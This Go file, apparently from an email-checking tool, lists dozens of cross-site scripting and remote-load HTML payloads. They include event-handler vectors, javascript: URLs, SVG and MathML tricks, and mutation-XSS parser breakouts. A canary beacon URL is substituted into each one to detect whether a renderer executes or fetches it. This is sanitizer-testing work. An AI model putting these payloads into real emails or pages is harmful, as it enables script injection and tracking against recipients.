package mailcheck

import (
	"strconv"
	"strings"
)

// whole contains HTML snippets that try to run or load something and leave the following markup intact. RUN is replaced
// by a script and URL by a URL. They don't request images or fonts, which an email may load.
var whole = []string{
	`<script>RUN</script>`,
	`<script src="URL"></script>`,
	`<script type="module">import "URL"</script>`,
	`<SCRIPT/x>RUN</SCRIPT>`,
	`<img src="data:x" onerror="RUN">`,
	`<img src=data:x oNeRrOr=RUN>`,
	`<img/src="data:x"/onerror="RUN">`,
	"<img src=\"data:x\"\nonerror\n=\n\"RUN\">",
	`<img srcset="data:x 1x" src="data:x" onerror="RUN">`,
	`<picture><source srcset="data:x"><img src="data:x" onerror="RUN"></picture>`,
	`<input type="image" src="data:x" onerror="RUN">`,
	`<input autofocus onfocus="RUN">`,
	`<div tabindex="0" autofocus onfocus="RUN">x</div>`,
	`<details open ontoggle="RUN"><summary>x</summary></details>`,
	`<marquee onstart="RUN">x</marquee>`,
	`<video src="URL" onerror="RUN"></video>`,
	`<video><source src="data:x" onerror="RUN"></video>`,
	`<audio src="URL" autoplay onerror="RUN"></audio>`,
	`<iframe src="URL"></iframe>`,
	`<iframe src="javascript:RUN"></iframe>`,
	`<iframe src="java&#x09;script:RUN"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>`,
	`<iframe src="data:text/html,&lt;script&gt;RUN&lt;/script&gt;"></iframe>`,
	`<iframe onload="RUN"></iframe>`,
	`<object data="URL"></object>`,
	`<object data="javascript:RUN"></object>`,
	`<object type="text/html" data="data:text/html,&lt;script&gt;RUN&lt;/script&gt;"></object>`,
	`<embed src="URL">`,
	`<embed src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload=&quot;RUN&quot;/&gt;">`,
	`<link rel="stylesheet" href="URL">`,
	`<link rel="preload" as="script" href="URL">`,
	`<link rel="modulepreload" href="URL">`,
	`<link rel="prefetch" href="URL">`,
	`<link rel="manifest" href="URL">`,
	`<style>@import "URL";</style>`,
	`<style>@\69mport url(URL);</style>`,
	`<style>@keyframes k{from{left:0}}</style><p style="animation:k 1s" onanimationstart="RUN">x</p>`,
	`<form action="URL"><button autofocus onfocus="this.form.submit();RUN">x</button></form>`,
	`<form action="javascript:RUN" id="f"></form><button form="f" formaction="javascript:RUN" autofocus onfocus="RUN">x</button>`,
	`<a href="javascript:RUN" id="l">x</a><img src="data:x" onerror="l.click()">`,
	`<svg onload="RUN"></svg>`,
	`<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>`,
	`<svg><a><set attributeName="href" to="javascript:RUN"/><text>x</text></a></svg>`,
	`<svg><script href="URL"/></svg>`,
	`<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>`,
	`<svg><style>@import "URL";</style></svg>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:RUN"><mtext><img src="data:x" onerror="RUN"></mtext></maction></math>`,
	`<math><annotation-xml encoding="text/html"><img src="data:x" onerror="RUN"></annotation-xml></math>`,
	`<div><template shadowrootmode="open"><img src="data:x" onerror="RUN"></template></div>`,
	`<body onload="RUN"></body>`,
	`<body onpageshow="RUN"></body>`,
	`<table background="data:x"><tr><td onmouseover="RUN"><img src="data:x" onerror="RUN"></td></tr></table>`,
	`<!--[if gte IE 4]><img src="data:x" onerror="RUN"><![endif]-->`,
	`<!--[if !mso]><!--><img src="data:x" onerror="RUN"><!--<![endif]-->`,
	`<x onfocus="RUN" tabindex="0" autofocus contenteditable>x</x>`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *"><script>RUN</script>`,
	`<portal src="URL"></portal><frame src="URL"><applet code="URL"></applet>`,
}

// torn contains snippets that end in the middle of something, or change when they're parsed again. Each is the last one in its email.
var torn = []string{
	`<meta http-equiv="refresh" content="0;url=URL">`,
	`<base href="URL/"><script src="x.js"></script>`,
	`<svg></p><style><a id="</style><img src=data:x onerror=RUN>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:x onerror=RUN&gt;">`,
	`<noscript><p title="</noscript><img src=data:x onerror=RUN>">`,
	`<textarea><p title="</textarea><img src=data:x onerror=RUN>">`,
	`<title><p title="</title><img src=data:x onerror=RUN>">`,
	`<xmp><p title="</xmp><img src=data:x onerror=RUN>">`,
	`<!--><img src=data:x onerror=RUN>-->`,
	`<!-- --!><img src=data:x onerror=RUN> -->`,
	`<svg><![CDATA[><img src=data:x onerror=RUN>]]></svg>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=data:x onerror=RUN>`,
	`<svg><title><style></title></svg><img src=data:x onerror=RUN></style>`,
	`<plaintext><img src=data:x onerror=RUN>`,
	`<a title="x" <img src=data:x onerror=RUN//`,
	`<frameset onload=RUN><frame src="URL">`,
}

// probes returns the snippets with a canary's URL, which contains the snippet's number.
func probes(pieces []string, canary, prefix string) []string {
	made := make([]string, len(pieces))
	for i, piece := range pieces {
		beacon := canary + "/" + prefix + strconv.Itoa(i)
		made[i] = strings.NewReplacer("RUN", "new(Image)().src='"+beacon+"/run'", "URL", beacon).Replace(piece)
	}
	return made
}
